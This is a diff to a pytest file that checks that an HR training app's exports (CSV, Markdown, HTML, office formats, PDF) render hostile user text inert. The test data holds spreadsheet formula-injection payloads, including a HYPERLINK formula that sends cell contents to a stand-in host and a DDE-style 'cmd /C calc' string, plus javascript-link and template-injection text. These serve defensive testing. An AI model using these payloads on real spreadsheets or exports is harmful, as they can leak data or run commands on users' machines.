@@ -1,5 +1,7 @@
 """Hostile text comes out as it was typed, in every format, and does nothing."""
 
+import csv
+import io
 import json
 from collections import Counter
 from dataclasses import replace
@@ -9,8 +11,10 @@ import pytest
 
 from hrtrainer.export.clean import clean, cleaned
 from hrtrainer.export.formats import FORMATS, render
+from hrtrainer.export.typesetting import pages
 from hrtrainer.export.zipped import parts_of
 from hrtrainer.problem import Problem
+from hrtrainer.session.summary import BoardTold
 from tests.export.opening import ZIPS, unpacked
 
 PAYLOADS = (
@@ -24,6 +28,8 @@ PAYLOADS = (
     "\ud800 lone, \ufdd0 none, \U000e0041 tag",
     "# head\n- item\n> quote\n[l](javascript:alert(1)) ![i](http://x.example/p.png)",
     '", "format": "other", "x": "',
+    '=HYPERLINK("http://x.example/?"&A1,"open")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
     "العربية עברית 日本 😀",
 )
 BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u200e\u200f\u061c"
@@ -47,6 +53,9 @@ def test_comes_out_inert(sample, fonts, form, payload):
     if form != "pdf":
         assert not set(text) & set(BIDI)
         assert not {sign for sign in text if sign < " " and sign not in "\r\n"}
+    if form == "csv":
+        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
+            assert not [cell for cell in row if cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "%", "|"))]
     if form == "md":
         assert "<script" not in text and "](" not in text
 
@@ -74,13 +83,36 @@ def test_adds_no_element_to_a_document(sample, fonts, form, payload):
     assert calm == found
 
 
+LINE = "<b>{{7*7}} =1+1 \u202e" * 55_000
+"""A line of a million bytes."""
+
+WRITTEN = {
+    "own words": lambda one, line: (replace(one, turns=(replace(one.turns[0], own=line, key=True),)), {}),
+    "seen differently": lambda one, line: (replace(one, turns=(replace(one.turns[0], differently=line),)), {}),
+    "reflection": lambda one, line: (replace(one, reflections=(("What stayed?", line),)), {}),
+    "to talk about": lambda one, line: (one, {"talk": line}),
+    "question of the organisation": lambda one, line: (one, {"answers": ((line, line),)}),
+    "barrier": lambda one, line: (one, {"barriers": (line,)}),
+    "code name": lambda one, line: (one, {"code_name": line}),
+    "title": lambda one, line: (replace(one, title=line, person=""), {}),
+    "board": lambda one, line: (replace(one, board=(BoardTold("risk", line, ((line, 1),), (line,)),)), {}),
+}
+"""Everything that a person writes freely, and two that an author does."""
+
+
+@pytest.mark.parametrize("field", WRITTEN)
 @pytest.mark.parametrize("form", FORMATS)
-def test_a_line_of_a_million(sample, fonts, form):
+def test_a_line_of_a_million(sample, fonts, form, field):
     if form == "pdf":
         pytest.importorskip("typst", reason="typst does not exist for this computer")
-    line = "<b>{{7*7}} " * 90_000
-    told = replace(sample.bare(), turns=(replace(sample.bare().turns[0], own=line, key=True),))
-    assert len(unpacked(render(sample.pack(told), form, fonts))) > 100_000
+    told, chosen = WRITTEN[field](sample.bare(), LINE)
+    file = render(sample.pack(told, **chosen), form, fonts)
+    if form != "pdf":
+        assert "\u202e".encode() not in unpacked(file) and b"\\u202e" not in unpacked(file)
+    if form in ("html", "docx", "odt"):
+        assert b"<b>{{7*7}}" not in unpacked(file)
+    if form == "pdf":
+        assert len(file) < 3_000_000 and pages(file) < 60
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
